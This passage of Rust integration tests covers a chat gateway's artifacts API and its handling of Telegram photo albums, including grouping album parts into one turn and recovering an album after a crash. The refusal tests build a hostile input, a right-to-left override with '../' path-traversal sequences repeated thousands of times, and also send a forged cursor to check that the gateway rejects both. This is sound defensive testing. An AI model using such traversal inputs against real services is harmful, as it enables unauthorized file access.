    let (tg, ai, gw, _node) = setup(move |_| json!({"format": "jpg", "base64": data})).await;
    invoke(&ai, "camera.snap");
    ai.push_text("The front door.");
    dm(&tg, 5107, "show me the front door");
    wait_sends(&tg, 1).await;
    all_answered(&gw, &tg).await;
    let answer = transcript_lines(&gw)
        .into_iter()
        .find(|l| l["role"] == "assistant" && l.get("media").is_some())
        .expect("the answer and its photo are recorded");
    let run = answer["runId"].as_str().expect("run id").to_owned();
    let mut op = admin(&gw).await;
    let by_run = op.request("artifacts.list", json!({"runId": run})).await;
    assert_eq!(by_run["ok"], true, "{by_run}");
    let list = by_run["payload"]["artifacts"]
        .as_array()
        .expect("artifacts");
    assert_eq!(list.len(), 1, "{by_run}");
    let a = &list[0];
    let key = a["sessionKey"].as_str().expect("its session").to_owned();
    assert_eq!(a["type"], "image");
    assert_eq!(a["title"], "camera.snap.jpg");
    assert_eq!(a["mimeType"], "image/jpeg");
    assert_eq!(a["sizeBytes"], jpeg.len());
    assert_eq!(a["runId"], run.as_str());
    assert_eq!(a["download"], json!({"mode": "bytes"}));
    assert!(
        !by_run.to_string().contains("media/outbound"),
        "no path: {by_run}"
    );
    let id = a["id"].as_str().expect("id").to_owned();
    assert!(id.starts_with("artifact_"), "{id}");

    // By session, the answers only, and as a page of images: the same one.
    for params in [
        json!({"sessionKey": key}),
        json!({"sessionKey": key, "messageRole": "assistant"}),
        json!({"sessionKey": key, "type": "image", "limit": 1}),
    ] {
        let r = op.request("artifacts.list", params.clone()).await;
        assert_eq!(r["payload"]["artifacts"], json!([a]), "{params}: {r}");
        assert!(r["payload"].get("nextCursor").is_none(), "{r}");
    }
    let got = op
        .request(
            "artifacts.get",
            json!({"sessionKey": key, "artifactId": id}),
        )
        .await;
    assert_eq!(got["payload"]["artifact"], *a, "{got}");
    let dl = op
        .request(
            "artifacts.download",
            json!({"sessionKey": key, "artifactId": id, "transport": "http"}),
        )
        .await;
    assert_eq!(dl["payload"]["encoding"], "base64", "{dl}");
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(dl["payload"]["data"].as_str().expect("data"))
        .expect("base64");
    assert!(bytes == jpeg, "the photo's bytes, unchanged");

    // Refusals, as OpenClaw words them (`details.type`), whatever a caller sends.
    let hostile = "🙂\u{202e}../".repeat(3000);
    for (params, kind) in [
        (json!({}), "artifact_query_unsupported"),
        (
            json!({"sessionKey": key, "limit": 2}),
            "artifact_query_unsupported",
        ),
        (
            json!({"sessionKey": "agent:main:nobody"}),
            "artifact_scope_not_found",
        ),
        (json!({"runId": "no-such-run"}), "artifact_scope_not_found"),
        (json!({"taskId": "t1"}), "artifact_scope_not_found"),
        (
            json!({"sessionKey": key, "agentId": "other"}),
            "artifact_scope_not_found",
        ),
        (json!({"sessionKey": hostile}), "artifact_scope_not_found"),
    ] {
        let r = op.request("artifacts.list", params.clone()).await;
        assert_eq!(r["ok"], false, "{params}: {r}");
        assert_eq!(r["error"]["details"]["type"], kind, "{params}: {r}");
    }
    for params in [
        json!({"sessionKey": key, "type": "video"}),
        json!({"sessionKey": key, "messageRole": "user"}),
        json!({"sessionKey": key, "limit": 5, "type": "image"}),
        json!({"sessionKey": key, "path": "media/outbound"}),
        json!({"sessionKey": 7}),
    ] {
        let r = op.request("artifacts.list", params.clone()).await;
        assert_eq!(r["error"]["code"], "INVALID_REQUEST", "{params}: {r}");
        assert!(
            r["error"]["message"]
                .as_str()
                .is_some_and(|m| m.starts_with("invalid artifacts.list params")),
            "{params}: {r}"
        );
    }
    let r = op
        .request(
            "artifacts.list",
            json!({"sessionKey": key, "type": "image", "cursor": "c1.forged"}),
        )
        .await;
    assert_eq!(
        r["error"]["details"]["type"], "artifact_cursor_invalid",
        "{r}"
    );
    let r = op
        .request(
            "artifacts.download",
            json!({"sessionKey": key, "artifactId": hostile}),
        )
        .await;
    assert_eq!(r["error"]["details"]["type"], "artifact_not_found", "{r}");
    assert!(
        r.to_string().len() < 2048,
        "the refusal does not echo the input whole"
    );
    let r = op
        .request(
            "artifacts.download",
            json!({"sessionKey": key, "artifactId": id, "transport": "ftp"}),
        )
        .await;
    assert_eq!(r["error"]["code"], "INVALID_REQUEST", "{r}");

    // A file the gateway no longer keeps is said to be gone; its summary stays listed.
    let path = answer["media"][0]["path"].as_str().expect("path");
    std::fs::remove_file(gw.dir.path().join(path)).expect("remove the kept photo");
    let r = op
        .request(
            "artifacts.download",
            json!({"sessionKey": key, "artifactId": id}),
        )
        .await;
    assert_eq!(
        r["error"]["details"]["type"], "artifact_download_unsupported",
        "{r}"
    );
    let r = op
        .request("artifacts.get", json!({"runId": run, "artifactId": id}))
        .await;
    assert_eq!(r["payload"]["artifact"]["id"], id.as_str(), "{r}");
}

/// Pushes the `n` photos of album `album` from `user` in `chat` (each a message of its own,
/// as Telegram delivers them; the caption, with its mention entities, on the first);
/// returns their message ids.
fn push_album(
    tg: &FakeTelegram,
    chat: i64,
    user: i64,
    album: &str,
    caption: Option<&str>,
    n: usize,
) -> Vec<i64> {
    (0..n)
        .map(|i| {
            let msg = tg.message(chat, user, "");
            let mut v = serde_json::to_value(&msg).expect("message serializes");
            v.as_object_mut().expect("object").remove("text");
            v["media_group_id"] = json!(album);
            v["photo"] = json!([{"file_id": "album-photo", "file_unique_id": format!("{album}-{i}"),
                                 "width": 800, "height": 600}]);
            if let (0, Some(c)) = (i, caption) {
                v["caption"] = json!(c);
                v["caption_entities"] = json!(crate::support::fake_telegram::entities_for(c));
            }
            tg.push_raw(json!({"message": v}));
            msg.message_id
        })
        .collect()
}

/// The image parts of a user message.
fn images(user: &Value) -> usize {
    user["content"]
        .as_array()
        .map_or(0, |p| p.iter().filter(|x| x["type"] == "image_url").count())
}

/// A user's album (each photo a message of its own, the caption on the first) is one turn
/// with all its photos and one answer, whatever `debounceMs` says: in a DM, and in a group
/// where only the captioned part mentions the bot; a bigger album than a turn reads says so.
#[actix_web::test]
async fn an_album_is_one_turn_with_all_its_photos_and_one_answer() {
    let tg = FakeTelegram::start(TG_TOKEN);
    let ai = FakeOpenAi::start();
    let mut cfg: Value =
        serde_json::from_str(&config(&tg, Some(&ai), json!({"groupPolicy": "open"})))
            .expect("config is JSON");
    cfg["models"]["providers"]["fake"]["models"][0]["input"] = json!(["text", "image"]);
    let gw = start_gateway(&cfg.to_string());
    tg.add_file("album-photo", photo());
    ai.set_default_text("Seen them.");

    let dm_parts = push_album(&tg, 5301, 5301, "alb-dm", Some("compare these"), 3);
    let reqs = ai.wait_requests_async(1, SLOW).await;
    all_answered(&gw, &tg).await;
    let user = last_user(&reqs[0]);
    assert_eq!(images(&user), 3, "{user}");
    assert!(
        user["content"][0]["text"]
            .as_str()
            .is_some_and(|t| t.starts_with("compare these")),
        "{user}"
    );
    let answers: usize = dm_parts.iter().map(|id| replies_to(&tg, *id).len()).sum();
    assert_eq!(answers, 1, "one answer for the album");

    // In a group only the first part mentions the bot; the album is taken whole. A text
    // of another member in between is not part of it.
    let group_parts = push_album(
        &tg,
        -7301,
        5302,
        "alb-group",
        Some("@openclaw_test_bot which is best?"),
        3,
    );
    let reqs = ai.wait_requests_async(2, SLOW).await;
    all_answered(&gw, &tg).await;
    let user = last_user(&reqs[1]);
    assert_eq!(images(&user), 3, "{user}");
    assert!(user.to_string().contains("which is best?"), "{user}");
    let answers: usize = group_parts
        .iter()
        .map(|id| replies_to(&tg, *id).len())
        .sum();
    assert_eq!(answers, 1);
    // Another member's album without a mention is not taken.
    push_album(&tg, -7301, 5303, "alb-other", None, 2);

    // Six photos: the turn reads four and is told of the rest.
    push_album(&tg, 5301, 5301, "alb-six", None, 6);
    let reqs = ai.wait_requests_async(3, SLOW).await;
    all_answered(&gw, &tg).await;
    let user = last_user(&reqs[2]);
    assert_eq!(images(&user), 4, "{user}");
    assert!(
        user.to_string().contains("only the first 4 are read"),
        "{user}"
    );
    assert_eq!(ai.requests().len(), 3, "nothing else started a run");
}

/// An album whose turn is cut by a SIGKILL is grouped again after the restart (its parts
/// stay pending with their album id) and answered once, with all its photos.
#[actix_web::test]
async fn an_album_cut_by_a_crash_is_grouped_again_and_answered_once() {
    let tg = FakeTelegram::start(TG_TOKEN);
    let ai = FakeOpenAi::start();
    let mut cfg: Value =
        serde_json::from_str(&config(&tg, Some(&ai), json!({}))).expect("config is JSON");
    cfg["models"]["providers"]["fake"]["models"][0]["input"] = json!(["text", "image"]);
    tg.add_file("album-photo", photo());
    // The album's turn hangs: the gateway is killed while it runs.
    ai.push(
        crate::support::fake_openai::FakeReply::text("lost")
            .delayed(std::time::Duration::from_secs(100)),
    );
    let parts = push_album(&tg, 5311, 5311, "alb-crash", Some("sort these"), 3);
    let gw = start_gateway(&cfg.to_string());
    let first = ai.wait_requests_async(1, SLOW).await;
    assert_eq!(images(&last_user(&first[0])), 3);
    crate::telegram_flow::wait_state_file(&gw, "the album pending", |v| {
        v["pending"].as_array().is_some_and(|p| p.len() == 3)
    })
    .await;
    ai.set_default_text("sorted");
    let gw = crate::telegram_flow::restart(gw);
    let reqs = ai.wait_requests_async(2, SLOW).await;
    all_answered(&gw, &tg).await;
    let user = last_user(&reqs[1]);
    assert_eq!(images(&user), 3, "{user}");
    assert!(user.to_string().contains("sort these"), "{user}");
    let answers: Vec<_> = parts.iter().flat_map(|id| replies_to(&tg, *id)).collect();
    assert_eq!(answers.len(), 1, "{answers:?}");
    assert_eq!(answers[0].text(), "sorted");
    assert_eq!(ai.request_count(), 2);
}
